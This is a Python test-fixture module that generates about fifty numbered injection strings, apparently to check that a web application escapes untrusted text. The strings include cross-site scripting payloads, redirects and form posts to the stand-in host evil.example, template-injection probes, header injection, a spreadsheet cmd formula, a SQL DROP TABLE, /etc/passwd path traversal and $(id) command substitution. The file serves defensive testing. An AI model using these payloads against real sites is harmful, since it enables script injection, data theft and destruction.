"""Texts that want to be more than text: each calls the canary where it is run, and can be found."""

MARK = "mark"
"""With a number behind it, it stands in every text that a person can read."""
CANARY = "canary"
"""The function that nobody may call."""

_LONG = 3000
_SHAPES = (
    # Tags and what breaks out of them.
    "<script>{call}</script>{mark}",
    "<img src=x onerror={call}>{mark}",
    "<svg/onload={call}>{mark}",
    "<svg><animate onbegin={call} attributeName=x dur=1s>{mark}",
    "<details open ontoggle={call}>{mark}",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>{mark}",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>{mark}",
    "<base href='https://evil.example/'><a href=/x>{mark}</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>{mark}",
    "<form action=https://evil.example><button>{mark}</button></form>",
    "<style>*{{display:none}}</style>{mark}",
    "<link rel=stylesheet href=//evil.example/x.css>{mark}",
    '" onmouseover="{call}" autofocus onfocus="{call}" x="{mark}',
    "' onmouseover='{call}' autofocus onfocus='{call}' x='{mark}",
    "` onmouseover={call} {mark}",
    '"><script>{call}</script>{mark}',
    "'><img src=x onerror={call}>{mark}",
    "</title><script>{call}</script>{mark}",
    "</textarea><script>{call}</script>{mark}",
    "</td></tr></table></main></body><script>{call}</script>{mark}",
    # Out of JSON that stands in a script.
    '</script><!--<script>"{mark}"}}];{call}//',
    "{mark}\u2028{call}\u2029",
    '"]}}</script><script>{call}</script>{mark}',
    # Templates, once and twice.
    "{{{{7*7}}}} {{% raw %}} {{{{ self.__init__.__globals__ }}}} ${{7*7}} #{{7*7}} {mark}",
    "&lt;script&gt;{call}&lt;/script&gt;{mark}",
    "%3Cscript%3E{call}%3C/script%3E{mark}",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e{mark}",
    # Addresses.
    "javascript:{call}//{mark}",
    "JaVa\tScRiPt:{call}//{mark}",
    "data:text/html,<script>{call}</script>{mark}",
    "//evil.example/{mark}",
    # Markdown.
    "[{mark}](javascript:{call}) ![x](https://evil.example/x.png) **b** `c` <b>d</b>",
    "```html\n<script>{call}</script>\n{mark}\n```\n# head\n- [ ] item",
    # What libraries of pages take for orders.
    '<div hx-get="https://evil.example" hx-trigger="load" data-live="run">{mark}</div>',
    '" hx-on:click="{call}" hx-trigger="load" x="{mark}',
    # Writing that hides, turns or stacks.
    "{mark} \u202egnp.exe\u202c \u2066left\u2069 \u200fright\u200e",
    "\u200b\u200c\u200d\ufeff{mark}\u2060\u00ad",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f\x85{mark}",
    "\u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627 {mark}",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 20 + "{mark}",
    "\ufdfd\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3f4 \uffff\ufffe {mark}",
    # Width and lines.
    "{mark}" + "W" * _LONG,
    "{mark}" + " \t\n" * 60 + "after",
    "{mark}\r\nSet-Cookie: x=1\r\n\r\n<script>{call}</script>",
    # Spreadsheets, queries, paths, formats.
    '=HYPERLINK("https://evil.example","{mark}")',
    "@SUM(1+1)*cmd|' /C calc'!A0 {mark}",
    "'; DROP TABLE person; -- {mark}",
    "../../../../etc/passwd%00{mark}",
    "%s%n%x {{0}} {{0.__class__}} $(id) `id` {mark}",
)


def texts() -> list[str]:
    """Each of them, with its own mark and its own call."""
    return [
        shape.format(call=f"{CANARY}({number})", mark=f"{MARK}{number:03d}")
        for number, shape in enumerate(_SHAPES)
    ]
